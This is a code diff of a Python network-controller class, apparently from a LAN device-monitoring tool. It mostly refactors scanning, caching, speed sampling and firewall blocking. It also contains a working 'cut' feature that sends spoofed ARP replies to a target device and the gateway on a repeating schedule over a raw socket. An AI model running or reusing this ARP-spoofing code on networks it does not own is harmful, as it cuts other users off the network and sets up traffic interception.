-                finally:
-                    device.attack_status = "none"
-                    
-            if ip in self.attack_threads:
-                self.stop_cut(ip)
-                
-            thread = threading.Thread(target=attack_loop)
-            thread.daemon = True
-            thread.start()
-            self.attack_threads[ip] = thread
+            our_mac = self._get_local_mac()
             
+            device.attack_status = "cutting"
+            self._add_arp_job(("cut", ip), [
+                # Spoofed ARP to target
+                self._arp_frame(ip, device.mac, gateway_ip, our_mac),
+                # Spoofed ARP to gateway
+                self._arp_frame(gateway_ip, gateway_mac, ip, our_mac),
+            ])
             return True
         except Exception as e:
-            logging.error(f"Error cutting device: {e}")
+            logger.error("Error cutting device: %s", e)
             return False
 
     def stop_cut(self, ip: str) -> bool:
@@ -332,32 +696,181 @@ class NetworkController:
             device = self.devices.get(ip)
             if device:
                 device.attack_status = "none"
-                if ip in self.attack_threads:
-                    self.attack_threads[ip].join(timeout=2)
-                    del self.attack_threads[ip]
+                self._remove_arp_job(("cut", ip))
                     
-                # Restore correct ARP entries
+                # Restore correct ARP entries, both in one pass over the shared socket
                 gateway_ip, gateway_mac = self._get_gateway_info()
                 if gateway_ip and gateway_mac:
-                    self._send_arp(ip, device.mac, gateway_ip, gateway_mac)
-                    self._send_arp(gateway_ip, gateway_mac, ip, device.mac)
+                    self._send_frames([
+                        self._arp_frame(ip, device.mac, gateway_ip, gateway_mac),
+                        self._arp_frame(gateway_ip, gateway_mac, ip, device.mac),
+                    ])
                     
                 return True
             return False
         except Exception as e:
-            logging.error(f"Error stopping cut: {e}")
+            logger.error("Error stopping cut: %s", e)
             return False
 
-    def _send_arp(self, target_ip: str, target_mac: str, spoof_ip: str, spoof_mac: str):
-        """Send ARP packet with specified addresses"""
-        try:
-            arp = ARP(op=2, pdst=target_ip, hwdst=target_mac, psrc=spoof_ip, hwsrc=spoof_mac)
-            send(arp, verbose=False)
-        except Exception as e:
-            logging.error(f"Error sending ARP: {e}")
+    def _arp_frame(self, target_ip: str, target_mac: str, spoof_ip: str, spoof_mac: str) -> bytes:
+        """Pack an ARP reply frame once so it can be re-sent as raw bytes"""
+        target_mac_bytes = _mac_bytes(target_mac)
+        return ARP_REPLY_FRAME.pack(
+            target_mac_bytes,
+            _mac_bytes(self._get_local_mac()),
+            ETH_P_ARP,
+            ARP_REPLY_PREAMBLE,
+            _mac_bytes(spoof_mac),
+            socket.inet_aton(spoof_ip),
+            target_mac_bytes,
+            socket.inet_aton(target_ip),
+        )
+
+    def _send_frames(self, frames: List[bytes]):
+        """Send frames through one shared layer 2 socket instead of a new socket per send()"""
+        with self._l2socket_lock:
+            try:
+                if self._l2socket is None:
+                    self._l2socket = self._open_l2socket()
+                for index, frame in enumerate(frames):
+                    if index and ARP_FRAME_GAP:
+                        time.sleep(ARP_FRAME_GAP)
+                    self._l2socket.send(frame)
+            except Exception as e:
+                logger.error("Error sending ARP frames: %s", e)
+                # Reopen on the next send, the interface may have changed
+                self._close_l2socket_locked()
+
+    def _open_l2socket(self):
+        """Open a socket for sending prebuilt Ethernet frames on the default interface
+        
+        On Linux this is a plain AF_PACKET socket, the frames are already raw
+        bytes so Scapy's socket wrapper would only add per-send overhead.
+        """
+        iface = self.get_default_interface()
+        if hasattr(socket, 'AF_PACKET'):
+            try:
+                # Protocol 0: send only, so incoming frames aren't queued on a socket nobody reads
+                sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+                sock.bind((iface, 0))
+                return sock
+            except OSError as e:
+                logger.debug("Raw socket unavailable (%s), sending through Scapy", e)
+        return conf.L2socket(iface=iface)
+
+    def _close_l2socket(self):
+        """Close the shared layer 2 socket; the next send opens a new one"""
+        with self._l2socket_lock:
+            self._close_l2socket_locked()
+
+    def _close_l2socket_locked(self):
+        """Close the shared socket, with _l2socket_lock already held"""
+        if self._l2socket is not None:
+            try:
+                self._l2socket.close()
+            except Exception as e:
+                logger.debug("Error closing layer 2 socket: %s", e)
+            self._l2socket = None
+
+    def _add_arp_job(self, key: Tuple[str, str], frames: List[bytes]):
+        """Re-send frames every ARP_REFRESH_INTERVAL until the job is removed"""
+        with self._arp_wakeup:
+            self._arp_jobs[key] = frames
+            if key not in self._arp_due:
+                # New jobs are sent right away, existing ones keep their cadence
+                due = time.monotonic()
+                self._arp_due[key] = due
+                heapq.heappush(self._arp_schedule, (due, key))
+                self._arp_wakeup.notify()
+            if self._arp_scheduler is None:
+                self._arp_scheduler = threading.Thread(target=self._arp_scheduler_loop, name="arp-scheduler", daemon=True)
+                self._arp_scheduler.start()
+
+    def _has_arp_job(self, key: Tuple[str, str]) -> bool:
+        """Whether frames are currently being re-sent for a job"""
+        with self._arp_wakeup:
+            return key in self._arp_jobs
+
+    def _remove_arp_job(self, key: Tuple[str, str]):
+        """Stop re-sending the frames of a job"""
+        with self._arp_wakeup:
+            self._arp_jobs.pop(key, None)
+            self._arp_due.pop(key, None)
+            # Lets the scheduler exit right away once the last job is gone
+            self._arp_wakeup.notify()
+
+    def _next_arp_frames(self) -> Optional[List[bytes]]:
+        """Wait for the earliest due jobs and reschedule them, None once no jobs are left"""
+        with self._arp_wakeup:
+            while True:
+                if not self._arp_jobs:
+                    self._arp_schedule.clear()
+                    self._arp_scheduler = None
+                    return None
+                
+                due, key = self._arp_schedule[0]
+                if self._arp_due.get(key) != due:
+                    heapq.heappop(self._arp_schedule)
+                    continue
+                
+                delay = due - time.monotonic()
+                if delay > 0:
+                    self._arp_wakeup.wait(delay)
+                    continue
+                
+                # Send everything that is due together, one send burst per tick
+                frames = []
+                now = time.monotonic()
+                while self._arp_schedule and self._arp_schedule[0][0] <= now:
+                    due, key = heapq.heappop(self._arp_schedule)
+                    if self._arp_due.get(key) != due:
+                        continue
+                    frames.extend(self._arp_jobs[key])
+                    next_due = max(due + ARP_REFRESH_INTERVAL, now)
+                    self._arp_due[key] = next_due
+                    heapq.heappush(self._arp_schedule, (next_due, key))
+                return frames
+
+    def _arp_scheduler_loop(self):
+        """Send protection and cut frames from one thread as they fall due, exiting when idle"""
+        while True:
+            frames = self._next_arp_frames()
+            if frames is None:
+                return
+            self._send_frames(frames)
 
     def get_interfaces(self) -> List[Dict]:
-        """Get all network interfaces"""
+        """Get all network interfaces (cached for INTERFACE_CACHE_TTL seconds)"""
+        now = time.monotonic()
+        cached_at, previous = self._iface_cache
+        if previous and now - cached_at < INTERFACE_CACHE_TTL:
+            return previous
+        
+        interfaces = self._query_interfaces()
+        self._iface_cache = (now, interfaces)
+        # Addresses changed (e.g. switched network), so the default route may have too
+        if previous and _interface_addresses(previous) != _interface_addresses(interfaces):
+            self._forget_default_route()
+        return interfaces
+
+    def invalidate_interface_cache(self):
+        """Forget cached interface, default interface and gateway lookups"""
+        self._iface_cache = (0.0, [])
+        self._wifi_iface_cache = (0.0, [])
+        self._forget_default_route()
+
+    def _forget_default_route(self):
+        """Forget the default interface, our MAC on it and the gateway"""
+        self._default_iface = None
+        self._local_mac = None
+        self._gateway_cache = None
+        if self.platform_monitor and hasattr(self.platform_monitor, 'forget_default_interface'):
+            self.platform_monitor.forget_default_interface()
+        # The shared socket is bound to the old default interface
+        self._close_l2socket()
+
+    def _query_interfaces(self) -> List[Dict]:
+        """Enumerate network interfaces from the platform"""
         try:
             # Use platform-specific implementation if available
             if self.platform_monitor and hasattr(self.platform_monitor, 'get_interfaces'):
@@ -380,11 +893,22 @@ class NetworkController:
                             })
             return interfaces
         except Exception as e:
-            logging.error(f"Error getting interfaces: {e}")
+            logger.error("Error getting interfaces: %s", e)
             return []
 
     def get_wifi_interfaces(self) -> List[str]:
-        """Get list of WiFi interfaces"""
+        """Get list of WiFi interfaces (cached for INTERFACE_CACHE_TTL seconds)"""
+        now = time.monotonic()
+        cached_at, interfaces = self._wifi_iface_cache
+        if interfaces and now - cached_at < INTERFACE_CACHE_TTL:
+            return interfaces
+        
+        interfaces = self._query_wifi_interfaces() or []
+        self._wifi_iface_cache = (now, interfaces)
+        return interfaces
+
+    def _query_wifi_interfaces(self) -> List[str]:
+        """Detect WiFi interfaces from the platform"""
         try:
             # Use platform-specific implementation if available
             if self.platform_monitor and hasattr(self.platform_monitor, 'get_wifi_interfaces'):
@@ -397,29 +921,20 @@ class NetworkController:
             
             # Generic fallback detection logic
             if self.os_type == "Windows":
-                # Windows detection logic
-                output = subprocess.check_output([self.ipconfig_path], 
-                                              text=True, 
-                                              creationflags=subprocess.CREATE_NO_WINDOW)
-                
-                wifi_interfaces = []
-                current_interface = None
-                
-                for line in output.splitlines():
-                    line = line.strip()
+                # The Windows monitor already asked WMI and the IP Helper API, which
+                # ipconfig's English-only text can't improve on
+                if not self.platform_monitor:
+                    output = subprocess.check_output([self.ipconfig_path], 
+                                                  text=True, 
+                                                  creationflags=subprocess.CREATE_NO_WINDOW)
                     
-                    if line.endswith(':'):
-                        if "Wireless LAN adapter" in line:
-                            current_interface = line[:-1].strip()
-                            if current_interface.startswith('Wireless LAN adapter '):
-                                current_interface = current_interface[len('Wireless LAN adapter '):]
-                    elif current_interface and "Media disconnected" not in line:
-                        if "IPv4 Address" in line:
-                            wifi_interfaces.append(current_interface)
-                            current_interface = None
-
-                if wifi_interfaces:
-                    return wifi_interfaces
+                    wifi_interfaces = [
+                        name for name, block in IPCONFIG_WIRELESS_BLOCK.findall(output)
+                        if "IPv4 Address" in block and "Media disconnected" not in block
+                    ]
+
+                    if wifi_interfaces:
+                        return wifi_interfaces
 
                 # Last resort: try to find any interface with "WiFi" or "Wireless" in the name
                 all_interfaces = self.get_interfaces()
@@ -446,104 +961,188 @@ class NetworkController:
                        if interface['name'].startswith(('wlan', 'wifi', 'wi-fi', 'wl'))]
                    
         except Exception as e:
-            logging.error(f"Error getting WiFi interfaces: {e}")
+            logger.error("Error getting WiFi interfaces: %s", e)
             return []
     
     def get_signal_strength(self, mac: str) -> Optional[int]:
         """Get WiFi signal strength for device"""
+        return self._get_wlan_snapshot().get(mac.replace('-', ':').upper())
+
+    def _get_wlan_snapshot(self) -> Dict[str, int]:
+        """Get {bssid: signal strength} for the local WiFi adapters (cached for WLAN_SNAPSHOT_TTL seconds)"""
+        now = time.monotonic()
+        cached_at, snapshot = self._wlan_snapshot
+        if now - cached_at < WLAN_SNAPSHOT_TTL:
+            return snapshot
+        
+        snapshot = {}
         try:
             # Use platform-specific implementation if available
             if self.platform_monitor and hasattr(self.platform_monitor, 'get_wifi_signal_strength'):
                 signal_info = self.platform_monitor.get_wifi_signal_strength()
-                # Look for the device MAC in any interface's info
                 for interface_info in signal_info.values():
-                    if isinstance(interface_info, dict) and interface_info.get('bssid', '').replace('-', ':').upper() == mac.upper():
-                        return interface_info.get('signal_strength')
-            return None
+                    if isinstance(interface_info, dict) and interface_info.get('bssid'):
+                        bssid = interface_info['bssid'].replace('-', ':').upper()
+                        snapshot[bssid] = interface_info.get('signal_strength')
         except Exception as e:
-            logging.error(f"Error getting signal strength: {e}")
-            return None
+            logger.error("Error getting signal strength: %s", e)
+        
+        self._wlan_snapshot = (now, snapshot)
+        return snapshot
 
     def guess_device_type(self, hostname: str, vendor: str) -> str:
         """Guess device type based on hostname and vendor"""
         if not hostname and not vendor:
             return "Unknown"
+        return self._classify_device(hostname or "", vendor or "")
 
-        hostname = (hostname or "").lower()
-        vendor = (vendor or "").lower()
-
-        patterns = {
-            "smartphone": ["iphone", "android", "phone", "samsung", "huawei", "xiaomi"],
-            "laptop": ["laptop", "macbook", "notebook", "dell", "lenovo", "hp", "asus"],
-            "tablet": ["ipad", "tablet", "kindle"],
-            "smart tv": ["tv", "roku", "firestick", "chromecast", "samsung tv", "lg tv"],
-            "gaming": ["playstation", "xbox", "nintendo", "ps4", "ps5"],
-            "iot": ["camera", "thermostat", "doorbell", "nest", "ring", "echo", "alexa"],
-            "desktop": ["desktop", "pc", "imac", "workstation"]
-        }
+    def _match_device_type(self, hostname: str, vendor: str) -> str:
+        """Match device type keywords against a hostname and vendor"""
+        hostname = hostname.lower()
+        vendor = vendor.lower()
 
-        for device_type, keywords in patterns.items():
-            if any(keyword in hostname or keyword in vendor for keyword in keywords):
-                return device_type.title()
+        # The newline keeps keywords from matching across hostname and vendor
+        text = hostname + "\n" + vendor
 
-        return "Unknown"
+        # The earliest category in DEVICE_TYPE_PATTERNS with a keyword in either string wins
+        if self._device_type_automaton is not None:
+            matches = (value for _, value in self._device_type_automaton.iter(text))
+        else:
+            matches = (DEVICE_TYPE_KEYWORDS[match.group(1)] for match in DEVICE_TYPE_REGEX.finditer(text))
+        best = min(matches, default=None)
+        return best[1] if best else "Unknown"
 
     def start_monitoring(self):
         """Start continuous device monitoring"""
         if not self.monitoring_thread or not self.monitoring_thread.is_alive():
             self._stop_event.clear()
-            self.monitoring_thread = threading.Thread(target=self._monitor_loop)
+            self.monitoring_thread = threading.Thread(target=self._monitor_loop, name="device-scan")
             self.monitoring_thread.daemon = True
             self.monitoring_thread.start()
+            self.speed_thread = threading.Thread(target=self._speed_loop, name="speed-sampler")
+            self.speed_thread.daemon = True
+            self.speed_thread.start()
+            if not self.oui_thread or not self.oui_thread.is_alive():
+                self.oui_thread = threading.Thread(target=self._refresh_oui_table, name="oui-refresh")
+                self.oui_thread.daemon = True
+                self.oui_thread.start()
 
     def stop_monitoring(self):
         """Stop device monitoring"""
         self._stop_event.set()
-        if self.monitoring_thread:
-            self.monitoring_thread.join()
+        for thread in (self.monitoring_thread, self.speed_thread):
+            if thread:
+                thread.join()
+        self._close_l2socket()
+        self.save_vendor_cache()
+
+    @property
+    def monitor_interval(self) -> float:
+        """Minimum seconds between background scans (the loop may currently be backed off further)"""
+        return self._min_interval
+
+    @monitor_interval.setter
+    def monitor_interval(self, seconds: float):
+        """Set the minimum scan interval the monitoring loop backs off from"""
+        self._min_interval = max(1, seconds)
+        self._interval = self._min_interval
 
     def _monitor_loop(self):
-        """Background monitoring loop"""
+        """Background monitoring loop
+        
+        Scans every monitor_interval seconds, doubling the interval up to
+        MONITOR_MAX_INTERVAL while the set of devices stays the same and
+        dropping back to the minimum as soon as it changes.
+        """
+        previous_ips = set()
+        stable_scans = 0
+        while not self._stop_event.is_set():
+            try:
+                current_ips = {device.ip for device in self.get_connected_devices()}
+                
+                if current_ips ^ previous_ips:
+                    stable_scans = 0
+                    self._interval = self._min_interval
+                else:
+                    stable_scans += 1
+                    if stable_scans >= MONITOR_STABLE_SCANS:
+                        self._interval = min(self._interval * 2, max(MONITOR_MAX_INTERVAL, self._min_interval))
+                previous_ips = current_ips
+            except Exception as e:
+                logger.error("Error in monitoring loop: %s", e)
+            
+            # Returns as soon as stop_monitoring() is called
+            if self._stop_event.wait(self._interval):
+                break
+
+    def _speed_loop(self):
+        """Refresh device speeds every SPEED_UPDATE_INTERVAL, independent of slow ARP scans
+        
+        Ticks are scheduled against a fixed deadline so the time spent
+        sampling doesn't push every later tick back. Ticks missed while
+        the process was stalled are skipped rather than run back to back.
+        """
+        next_tick = time.monotonic()
         while not self._stop_event.is_set():
             try:
-                self.get_connected_devices()
                 self._update_device_speeds()
-                time.sleep(5)  # Scan every 5 seconds
             except Exception as e:
-                logging.error(f"Error in monitoring loop: {e}")
-                time.sleep(5)
+                logger.error("Error updating device speeds: %s", e)
+            
+            now = time.monotonic()
+            next_tick += SPEED_UPDATE_INTERVAL
+            if next_tick < now:
+                next_tick = now + SPEED_UPDATE_INTERVAL - (now - next_tick) % SPEED_UPDATE_INTERVAL
+            if self._stop_event.wait(next_tick - now):
+                break
 
     def _update_device_speeds(self):
         """Update current speeds for all devices based on bandwidth rate"""
         try:
-            current_time = time.time()
-            stats = psutil.net_io_counters(pernic=True)
+            current_time = time.monotonic()
+            io = None
+            if self.platform_monitor and hasattr(self.platform_monitor, 'get_io_counters'):
+                # Cheaper per-tick counters where the platform has them (GetIfTable2 on Windows)
+                io = self.platform_monitor.get_io_counters()
+            if io is None:
+                stats = psutil.net_io_counters(pernic=True)
+                io = {
+                    nic: s.bytes_sent + s.bytes_recv
+                    for nic, s in stats.items()
+                    if not nic.startswith(('lo', 'Loopback'))
+                }
             
-            # Calculate total bytes across all interfaces
-            total_bytes = sum(s.bytes_sent + s.bytes_recv for s in stats.values())
+            last_io, self._last_io = self._last_io, (current_time, io)
+            if last_io is None:
+                return  # Need two samples for a rate
             
-            # Calculate time delta
-            time_delta = current_time - self.last_measurement_time
-            if time_delta > 0:
-                # Calculate bytes per second, then convert to Mbps
-                bytes_delta = total_bytes - self.last_bytes_total
-                if bytes_delta >= 0:
-                    total_speed_mbps = (bytes_delta * 8) / (time_delta * 1_000_000)
-                    
-                    # Distribute speed among active devices (simplified)
-                    active_devices = [d for d in self.devices.values() if d.status == "active"]
-                    if active_devices:
-                        per_device_speed = total_speed_mbps / len(active_devices)
-                        for device in active_devices:
-                            # Add some variance to make it more realistic
-                            device.current_speed = max(0, per_device_speed + (hash(device.ip) % 10 - 5) * 0.1)
+            last_time, last_bytes = last_io
+            time_delta = current_time - last_time
+            if time_delta <= 0:
+                return
             
-            # Update for next measurement
-            self.last_measurement_time = current_time
-            self.last_bytes_total = total_bytes
+            # Per-NIC deltas; NICs that appeared or whose counters reset contribute nothing
+            bytes_delta = sum(
+                max(0, total - last_bytes[nic])
+                for nic, total in io.items()
+                if nic in last_bytes
+            )
+            self.total_bandwidth = (bytes_delta * 8) / (time_delta * 1_000_000)
+            
+            # Share the bandwidth evenly among active devices; the active set is
+            # maintained by the scan thread, so iterate a copy taken in one step.
+            # One lookup per address: expired ones come back as None and are dropped
+            active_devices = [
+                device for device in map(self.devices.get, tuple(self._active_ips))
+                if device is not None
+            ]
+            if active_devices:
+                per_device_speed = self.total_bandwidth / len(active_devices)
+                for device in active_devices:
+                    device.current_speed = per_device_speed
             
         except Exception as e:
-            logging.error(f"Error updating device speeds: {e}")
+            logger.error("Error updating device speeds: %s", e)
 
     def get_device_details(self, ip: str) -> Optional[Dict]:
         """Get detailed information about a specific device"""
@@ -565,33 +1164,61 @@ class NetworkController:
         return None
 
     def get_network_summary(self) -> Dict:
-        """Get summary of network devices"""
-        active_devices = [d for d in self.devices.values() if d.status == "active"]
+        """Get summary of network devices
+        
+        Device counts only change when a scan registers or expires devices or
+        a device type is edited, so they are counted once per change rather
+        than on every poll. Bandwidth is always current.
+        """
+        generation, counts = self._summary_cache
+        if counts is None or generation != self._summary_generation:
+            generation = self._summary_generation
+            counts = self._count_devices()
+            self._summary_cache = (generation, counts)
+        return {**counts, "total_bandwidth": self.total_bandwidth}
+
+    def _count_devices(self) -> Dict:
+        """Count all, active and per-type devices"""
+        devices = self.devices
+        device_types = Counter()
+        active_count = 0
+        # Only devices in the active set can be active, so inactive devices
+        # kept until expiry aren't visited
+        for ip in tuple(self._active_ips):
+            device = devices.get(ip)
+            if device is not None and device.status == "active":
+                active_count += 1
+                device_types[device.device_type] += 1
         return {
-            "total_devices": len(self.devices),
-            "active_devices": len(active_devices),
-            "device_types": {
-                device_type: len([d for d in active_devices if d.device_type == device_type])
-                for device_type in set(d.device_type for d in active_devices)
-            },
-            "total_bandwidth": sum(d.current_speed for d in active_devices)
+            "total_devices": len(devices),
+            "active_devices": active_count,
+            "device_types": dict(device_types),
         }
+
+    def set_device_type(self, ip: str, device_type: str) -> Optional[Device]:
+        """Override the guessed type of a device"""
+        device = self.devices.get(ip)
+        if device:
+            device.device_type = device_type
+            self._summary_generation += 1
+        return device
+
     def limit_device_speed(self, ip, speed_limit):
         """Limit device speed (in Mbps)"""
         try:
             # Validate IP to prevent command injection
             if not self.validate_ip(ip):
-                logging.error(f"Invalid IP address: {ip}")
+                logger.error("Invalid IP address: %s", ip)
                 return False
             
             # Validate speed limit
             try:
                 speed_limit = float(speed_limit)
                 if speed_limit < 0 or speed_limit > 10000:
-                    logging.error(f"Invalid speed limit: {speed_limit}")
+                    logger.error("Invalid speed limit: %s", speed_limit)
                     return False
             except (ValueError, TypeError):
-                logging.error(f"Invalid speed limit value: {speed_limit}")
+                logger.error("Invalid speed limit value: %s", speed_limit)
                 return False
             
             # Use platform-specific implementation if available
@@ -600,14 +1227,14 @@ class NetworkController:
                 
             # Note: Generic implementations are placeholders
             # Real speed limiting requires proper QoS setup
-            logging.warning(f"Speed limiting for {ip} set to {speed_limit} Mbps (platform implementation pending)")
+            logger.warning("Speed limiting for %s set to %s Mbps (platform implementation pending)", ip, speed_limit)
             
             device = self.devices.get(ip)
             if device:
                 device.speed_limit = speed_limit
             return True
         except Exception as e:
-            logging.error(f"Error limiting device speed: {e}")
+            logger.error("Error limiting device speed: %s", e)
             return False
 
     def block_device(self, ip):
@@ -615,7 +1242,7 @@ class NetworkController:
         try:
             # Validate IP to prevent command injection
             if not self.validate_ip(ip):
-                logging.error(f"Invalid IP address for blocking: {ip}")
+                logger.error("Invalid IP address for blocking: %s", ip)
                 return False
             
             # Use platform-specific implementation if available
@@ -631,14 +1258,14 @@ class NetworkController:
             if self.os_type == "Windows":
                 # Windows implementation using array (no shell=True)
                 subprocess.check_output(
-                    ['netsh', 'advfirewall', 'firewall', 'add', 'rule', 
+                    [self.netsh_path, 'advfirewall', 'firewall', 'add', 'rule', 
                      f'name=Block_{ip}', 'dir=in', 'interface=any', 
                      'action=block', f'remoteip={ip}'],
                     creationflags=subprocess.CREATE_NO_WINDOW
                 )
             elif self.os_type == "Darwin":
                 # macOS - requires pfctl configuration
-                logging.warning("macOS blocking requires pfctl configuration")
+                logger.warning("macOS blocking requires pfctl configuration")
                 return False
             else:  # Linux
                 subprocess.check_output(['iptables', '-A', 'INPUT', '-s', ip, '-j', 'DROP'])
@@ -648,14 +1275,36 @@ class NetworkController:
                 device.is_blocked = True
             return True
         except Exception as e:
-            logging.error(f"Error blocking device: {e}")
+            logger.error("Error blocking device: %s", e)
+            return False
+
+    def block_devices(self, ips: List[str]) -> bool:
+        """Block several devices, in one firewall update where the platform supports it"""
+        invalid = [ip for ip in ips if not self.validate_ip(ip)]
+        if invalid:
+            logger.error("Invalid IP addresses for blocking: %s", invalid)
+            return False
+        
+        if not (self.platform_monitor and hasattr(self.platform_monitor, 'block_devices')):
+            return all([self.block_device(ip) for ip in ips])
+        
+        try:
+            result = self.platform_monitor.block_devices(ips)
+            if result:
+                devices = self.devices
+                for ip in ips:
+                    if ip in devices:
+                        devices[ip].is_blocked = True
+            return result
+        except Exception as e:
+            logger.error("Error blocking devices: %s", e)
             return False
 
     def unblock_device(self, ip):
         """Unblock a previously blocked device"""
         try:
             if not self.validate_ip(ip):
-                logging.error(f"Invalid IP address: {ip}")
+                logger.error("Invalid IP address: %s", ip)
                 return False
                 
             # Use platform-specific implementation if available
@@ -670,11 +1319,11 @@ class NetworkController:
             # Generic implementations based on OS type (no shell=True)
             if self.os_type == "Windows":
                 subprocess.check_output(
-                    ['netsh', 'advfirewall', 'firewall', 'delete', 'rule', f'name=Block_{ip}'],
+                    [self.netsh_path, 'advfirewall', 'firewall', 'delete', 'rule', f'name=Block_{ip}'],
                     creationflags=subprocess.CREATE_NO_WINDOW
                 )
             elif self.os_type == "Darwin":
-                logging.warning("macOS unblocking requires pfctl configuration")
+                logger.warning("macOS unblocking requires pfctl configuration")
                 return False
             else:  # Linux
                 subprocess.check_output(['iptables', '-D', 'INPUT', '-s', ip, '-j', 'DROP'])
@@ -684,34 +1333,44 @@ class NetworkController:
                 device.is_blocked = False
             return True
         except Exception as e:
-            logging.error(f"Error unblocking device: {e}")
+            logger.error("Error unblocking device: %s", e)
             return False
 
     def validate_ip(self, ip: str) -> bool:
         """Validate IPv4 address format"""
-        import re
         if not ip:
             return False
-        pattern = r'^(?:(?:25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)\.){3}(?:25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)$'
-        return bool(re.match(pattern, ip))
+        return bool(IPV4_PATTERN.match(ip))
 
     def get_default_interface(self) -> Optional[str]:
         """Get the default network interface for packet operations"""
+        if self._default_iface is None:
+            self._default_iface = self._query_default_interface()
+        return self._default_iface
+
+    def _get_local_mac(self) -> str:
+        """MAC of the default interface, looked up once until the interface cache is invalidated"""
+        if self._local_mac is None:
+            self._local_mac = get_if_hwaddr(self.get_default_interface())
+        return self._local_mac
+
+    def _query_default_interface(self) -> Optional[str]:
+        """Look up the default network interface from the routing table"""
         try:
             if self.os_type == "Windows":
+                if self.platform_monitor and hasattr(self.platform_monitor, 'get_default_interface'):
+                    default_iface = self.platform_monitor.get_default_interface()
+                    if default_iface:
+                        return default_iface
+                
                 # Use route to find default interface
                 output = subprocess.check_output(
-                    ['route', 'print', '0.0.0.0'],
+                    [self.route_path, 'print', '0.0.0.0'],
                     text=True,
                     creationflags=subprocess.CREATE_NO_WINDOW
                 )
-                gateway_ip = None
-                for line in output.splitlines():
-                    if '0.0.0.0' in line and 'On-link' not in line:
-                        parts = line.split()
-                        if len(parts) >= 4:
-                            gateway_ip = parts[2]
-                            break
+                route_match = WINDOWS_DEFAULT_ROUTE.search(output)
+                gateway_ip = route_match.group(1) if route_match else None
                 
                 if gateway_ip:
                     # Find interface matching this gateway subnet
@@ -732,24 +1391,19 @@ class NetworkController:
                         return iface.get('name')
             
             elif self.os_type == "Linux":
-                output = subprocess.check_output(['ip', 'route'], text=True)
-                for line in output.splitlines():
-                    if line.startswith('default'):
-                        parts = line.split()
-                        if 'dev' in parts:
-                            dev_idx = parts.index('dev')
-                            if dev_idx + 1 < len(parts):
-                                return parts[dev_idx + 1]
+                default_iface, _ = _read_linux_default_route()
+                if default_iface:
+                    return default_iface
             
             elif self.os_type == "Darwin":
-                output = subprocess.check_output(['route', 'get', 'default'], text=True)
-                for line in output.splitlines():
-                    if 'interface:' in line:
-                        return line.split(':')[1].strip()
+                output = subprocess.check_output(['route', '-n', 'get', 'default'], text=True)
+                interface_match = DARWIN_ROUTE_INTERFACE.search(output)
+                if interface_match:
+                    return interface_match.group(1)
             
             return None
         except Exception as e:
-            logging.error(f"Error getting default interface: {e}")
+            logger.error("Error getting default interface: %s", e)
             return None
 
     def get_connected_devices(self, interface: str = None) -> List[Device]:
@@ -758,112 +1412,319 @@ class NetworkController:
             # Get network range from interfaces
             target_range = None
             local_ip = None
+            local_iface = None
             
             for iface in self.get_interfaces():
                 ip = iface.get('ip')
                 if ip and not ip.startswith('127.'):
                     local_ip = ip
-                    base = '.'.join(ip.split('.')[:3])
-                    target_range = f"{base}.0/24"
+                    # macOS names interfaces by hardware port ("Wi-Fi"); packets go out on the BSD device
+                    local_iface = iface.get('device') or iface.get('name')
+                    target_range = self._get_scan_network(iface)
                     break
             
             if not target_range:
-                logging.warning("Could not determine network range, using ARP table fallback")
+                logger.warning("Could not determine network range, using ARP table fallback")
                 return self._get_devices_from_arp_table()
             
-            logging.info(f"Scanning network range: {target_range}")
+            logger.info("Scanning network range: %s", target_range)
             
             try:
                 # Try ARP scan with Scapy (may require admin rights)
-                answered, unanswered = srp(
-                    Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(pdst=target_range),
-                    timeout=3,
-                    verbose=False
-                )
-                
-                discovered = []
-                current_time = datetime.now()
+                responders = self._arp_scan(target_range, interface, local_ip, local_iface)
                 
-                for sent, received in answered:
-                    ip = received.psrc
-                    mac = received.hwsrc.upper().replace('-', ':')
-                    
-                    if ip in self.devices:
-                        device = self.devices[ip]
-                        device.last_seen = current_time
-                        device.status = "active"
-                    else:
-                        hostname = self._resolve_hostname(ip)
-                        vendor = self._get_mac_vendor(mac)
-                        device_type = self.guess_device_type(hostname, vendor)
-                        
-                        device = Device(
-                            ip=ip,
-                            mac=mac,
-                            hostname=hostname,
-                            vendor=vendor,
-                            device_type=device_type,
-                            last_seen=current_time
-                        )
-                        self.devices[ip] = device
-                    
-                    discovered.append(device)
+                scan_ts = time.monotonic()
+                discovered = self._register_devices(responders, scan_ts)
+                self._expire_devices(discovered, scan_ts)
                 
-                # Mark stale devices as inactive
-                for ip, device in self.devices.items():
-                    if device not in discovered:
-                        time_diff = (current_time - device.last_seen).total_seconds()
-                        if time_diff > 120:
-                            device.status = "inactive"
-                
-                logging.info(f"Discovered {len(discovered)} active devices via ARP scan")
+                logger.info("Discovered %s active devices via ARP scan", len(discovered))
                 return discovered
                 
             except Exception as scan_error:
-                logging.warning(f"ARP scan failed ({scan_error}), falling back to ARP table")
+                logger.warning("ARP scan failed (%s), falling back to ARP table", scan_error)
+                # The interface may have changed underneath us, look it up again next time
+                self.invalidate_interface_cache()
                 return self._get_devices_from_arp_table()
             
         except Exception as e:
-            logging.error(f"Error scanning devices: {e}")
+            logger.error("Error scanning devices: %s", e)
             return list(self.devices.values())
 
+    def _get_scan_network(self, iface: Dict) -> ipaddress.IPv4Network:
+        """Get the network to scan for an interface from its address and netmask"""
+        netmask = iface.get('network_mask')
+        if not netmask:
+            # Platform monitors don't report a netmask, look it up with psutil
+            for addr in psutil.net_if_addrs().get(iface.get('name'), []):
+                if addr.family == socket.AF_INET and addr.address == iface['ip']:
+                    netmask = addr.netmask
+                    break
+            # Remember it on the cached interface entry so later scans skip the lookup
+            if netmask:
+                iface['network_mask'] = netmask
+        
+        network = ipaddress.IPv4Interface(f"{iface['ip']}/{netmask or 24}").network
+        # The whole subnet, before narrowing, as (network, netmask) ints for one-mask membership checks
+        self._local_network = (int(network.network_address), int(network.netmask))
+        if network.prefixlen < ARP_SCAN_MIN_PREFIX:
+            network = ipaddress.IPv4Interface(f"{iface['ip']}/24").network
+        return network
+
+    def _arp_scan(self, network: ipaddress.IPv4Network, interface: Optional[str] = None,
+                  local_ip: Optional[str] = None, local_iface: Optional[str] = None) -> List[Tuple[str, str]]:
+        """ARP scan a range and return (ip, mac) pairs
+        
+        On Linux the requests go out through a raw AF_PACKET socket. Otherwise,
+        or if that fails, Scapy scans the range as /26 chunks on separate
+        threads so that the srp() timeouts overlap.
+        
+        The raw path is not sharded across threads: writing even a /22 worth
